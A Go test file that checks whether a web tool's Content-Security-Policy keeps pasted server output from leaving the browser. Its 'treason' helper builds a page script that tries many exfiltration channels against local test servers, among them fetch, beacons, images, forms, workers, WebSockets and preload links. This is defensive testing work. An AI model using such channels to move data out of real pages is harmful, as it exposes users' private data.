package browser

import (
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// secret stands in what is pasted, and must not leave the browser.
const secret = "mx7.customer.example"

// A counter is a server that keeps all that reaches it.
type counter struct {
	*httptest.Server
	mu   sync.Mutex
	seen []string // method, address, headers and body of each request
}

// count starts a counter that answers as a handler does.
func count(t testing.TB, handler http.Handler) *counter {
	t.Helper()
	c := &counter{}
	c.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body) // as much as came
		c.mu.Lock()
		c.seen = append(c.seen, fmt.Sprintf("%s %s %v %s", r.Method, r.URL, r.Header, body))
		c.mu.Unlock()
		handler.ServeHTTP(w, r)
	}))
	t.Cleanup(func() {
		c.CloseClientConnections() // of browsers that wait for more
		c.Close()
	})
	return c
}

// requests are those since it was last asked.
func (c *counter) requests() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	seen := c.seen
	c.seen = nil
	return seen
}

// ways are how a page's script can try to send text. to(WAY) is the address
// with the text in it, script makes an address one that scripts are taken from.
var ways = []struct{ name, script string }{
	{"fetch", `fetch(to("fetch"), { method: "POST", mode: "no-cors", body: text }).catch(() => {})`},
	{"request", `((r) => (r.open("POST", to("request")), r.send(text)))(new XMLHttpRequest())`},
	{"beacon", `navigator.sendBeacon(to("beacon"), text)`},
	{"image", `new Image().src = to("image")`},
	{"form", `add("iframe", { name: to("sink") }), add("form", { action: to("form"), method: "post", target: to("sink") }).submit()`},
	{"worker", "new Worker(script(URL.createObjectURL(new Blob([`fetch('${to(\"worker\")}', { mode: 'no-cors' })`]))))"},
	{"frame", `add("iframe", { src: to("frame") })`},
	{"media", `add("video", { src: to("media"), preload: "auto" })`},
	{"events", `new EventSource(to("events"))`},
	{"socket", `new WebSocket(to("socket").replace("http", "ws"))`},
	{"prefetch", `add("link", { rel: "prefetch", href: to("prefetch") })`},
	{"preload", `add("link", { rel: "preload", as: "style", href: to("preload") })`},
	{"style", `add("link", { rel: "stylesheet", href: to("style") })`},
	{"script", `add("script", { src: script(to("script")) })`},
}

// fromOwnPlace are the ways that a page which loads its style and its scripts
// from where it came from has to that place, and to no other.
var fromOwnPlace = []string{"prefetch", "preload", "script", "style"}

// treason is a script that tries every way to every target.
func treason(targets ...string) string {
	var b strings.Builder
	fmt.Fprintf(&b, `const text = %q;
const trusted = globalThis.trustedTypes?.createPolicy("headroom", { createScriptURL: (url) => url });
const script = (url) => trusted?.createScriptURL(url) ?? url;
const add = (kind, properties) => document.body.appendChild(Object.assign(document.createElement(kind), properties));
`, secret)
	for _, target := range targets {
		fmt.Fprintf(&b, "{ const to = (way) => %q + way + '?' + text;\n", target+"/")
		for _, w := range ways {
			fmt.Fprintf(&b, "try { %s } catch {}\n", w.script)
		}
		b.WriteString("}\n")
	}
	return b.String() + "document.title = 'tried'"
}

// traitor is a page with a script, under a policy or, for "", none. The policy
// allows that script besides what it says.
func traitor(policy, script string) string {
	meta := ""
	if policy != "" {
		sum := sha256.Sum256([]byte(script))
		policy = strings.Replace(policy, "script-src ", "script-src 'sha256-"+base64.StdEncoding.EncodeToString(sum[:])+"' ", 1)
		meta = `<meta http-equiv="Content-Security-Policy" content="` + html.EscapeString(policy) + `">`
	}
	return `<!DOCTYPE html><meta charset="utf-8">` + meta + `<title>trying</title><link rel="icon" href="data:,"><body><script>` + script + `</script>`
}

var policyElement = regexp.MustCompile(`<meta http-equiv="Content-Security-Policy" content="([^"]*)"`)

// policyOf is the policy in a page of the built site.
func policyOf(t testing.TB, page string) string {
	t.Helper()
	content, err := os.ReadFile(filepath.Join(site(t), page))
	require.NoError(t, err)
	found := policyElement.FindSubmatch(content)
	require.NotNil(t, found, page)
	return html.UnescapeString(string(found[1]))
}

// arrived lists the ways by which the text came to a server.
func arrived(requests []string) []string {
	var names []string
	for _, r := range requests {
		if strings.Contains(r, secret) {
			_, address, _ := strings.Cut(r, "/")
			name, _, _ := strings.Cut(address, "?")
			names = append(names, name)
		}
	}
	slices.Sort(names)
	return slices.Compact(names)
}

// A page that wants to betray what was pasted does so by every way there is,
// unless it has the policy of a page of ours: then nothing comes to any other
// server, and nothing to its own but what looks like a request for the site's
// own style and scripts. The single file has not even that.
func TestNothingLeaves(t *testing.T) {
	for name, open := range browsers {
		t.Run(name, func(t *testing.T) {
			t.Parallel() // it waits more than it works
			w := open(t)
			other := count(t, http.NotFoundHandler())
			var page string
			own := count(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				if r.URL.Path != "/page.html" {
					http.NotFound(w, r)
					return
				}
				w.Header().Set("Content-Type", "text/html")
				_, _ = io.WriteString(w, page) // a browser that went away
			}))
			folder := t.TempDir()
			script := treason(other.URL, own.URL)
			tried := func(policy, place string) {
				page = traitor(policy, script)
				require.NoError(t, os.WriteFile(filepath.Join(folder, "page.html"), []byte(page), 0o644))
				w.visit(place + "/page.html")
				await(w, `document.title === "tried"`)
			}
			for _, place := range []string{own.URL, "file://" + folder} {
				var want []string
				for _, way := range ways {
					if name != "Chromium" && way.name == "prefetch" { // WebKit has none, Firefox makes few
						continue
					}
					want = append(want, way.name)
				}
				begin := time.Now()
				tried("", place)
				var away, home []string
				for time.Since(begin) < 10*time.Second && !(holdsAll(arrived(away), want) && holdsAll(arrived(home), want)) {
					time.Sleep(50 * time.Millisecond)
					away, home = append(away, other.requests()...), append(home, own.requests()...)
				}
				assert.Subset(t, arrived(away), want, "from %s, without a policy, to another server", place)
				assert.Subset(t, arrived(home), want, "from %s, without a policy, to its own", place)

				t.Log("without a policy, from", place, "in", time.Since(begin))
				enough := min(2*time.Since(begin), 4*time.Second)
				for _, ours := range []string{"guide/linux.html", "index.html", "headroom.html"} {
					tried(policyOf(t, ours), place)
					time.Sleep(enough)
					assert.Empty(t, other.requests(), "from %s, with the policy of %s, to another server", place, ours)
					came := arrived(own.requests())
					if ours != "headroom.html" && place == own.URL {
						came = slices.DeleteFunc(came, func(way string) bool { return slices.Contains(fromOwnPlace, way) })
					}
					assert.Empty(t, came, "from %s, with the policy of %s, to its own server", place, ours)
				}
			}
		})
	}
}

// holdsAll reports whether every one of some names is among others.
func holdsAll(all, some []string) bool {
	return !slices.ContainsFunc(some, func(name string) bool { return !slices.Contains(all, name) })
}

// Over a whole journey the server is asked for the files of each page while it
// loads and for nothing from then on, and no request bears anything of what
// was pasted or planned.
func TestServerSeesNothing(t *testing.T) {
	const observed, planned = "48271", "73211"
	text := "root@" + secret + ":~# uname -a\nLinux " + secret + " 5.10.0-21-amd64 #1 SMP x86_64 GNU/Linux\n" +
		"root@" + secret + ":~# sysctl -a\nfs.file-max = " + observed + "\nnet.core.rmem_max = 1\n"
	for name, open := range browsers {
		t.Run(name, func(t *testing.T) {
			t.Parallel() // it waits more than it works
			w := open(t)
			behind, err := url.Parse(serve(t))
			require.NoError(t, err)
			c := count(t, httputil.NewSingleHostReverseProxy(behind))
			loaded := func(page, expression string) {
				await(w, `document.readyState === "complete" && `+expression)
				time.Sleep(300 * time.Millisecond) // for what comes when the page is idle
				seen := c.requests()
				assert.NotEmpty(t, seen, page)
				for _, request := range seen {
					assert.Regexp(t, `^GET /[a-z0-9./-]* map`, request, page) // an address of a file, and no more
					for _, own := range []string{secret, observed, planned, "Cookie", "Referer"} {
						assert.NotContains(t, request, own, page)
					}
				}
			}
			asksNothing := func(what string) {
				time.Sleep(300 * time.Millisecond)
				assert.Empty(t, c.requests(), what)
			}
			click := func(selector string) {
				value[any](w, `setTimeout(() => document.querySelector('`+selector+`').click())`)
			}
			state := func(state string) string { return `document.documentElement.dataset.advisor === "` + state + `"` }

			w.visit(c.URL + "/index.html")
			loaded("advisor", state("ready"))
			copyText(w, text)
			w.paste()
			click("#check")
			await(w, state("done"))
			require.Contains(t, value[string](w, `document.getElementById("report").textContent`), observed)
			asksNothing("check")
			click(`[data-download="all"]`)
			asksNothing("export")
			click(`#report [data-rule="linux.fs.file-max"] a[href*="guide/linux.html"]`)
			loaded("guide", `document.querySelector('.rule-card[data-rule="linux.fs.file-max"]')?.textContent.includes("`+observed+`")`)
			click(`#theme`)
			asksNothing("guide")
			click(`nav a[href$="planner.html"]`)
			loaded("planner", state("done"))
			value[any](w, `((field) => (field.value = "`+planned+`", field.dispatchEvent(new Event("input", { bubbles: true }))))(document.getElementById("plan-connections"))`)
			await(w, `document.getElementById("report").textContent.includes("73,211")`)
			asksNothing("planner")
			click("#check-with")
			loaded("back", `document.getElementById("plan-connections")?.value === "`+planned+`" && `+state("done"))
			asksNothing("back")
		})
	}
}
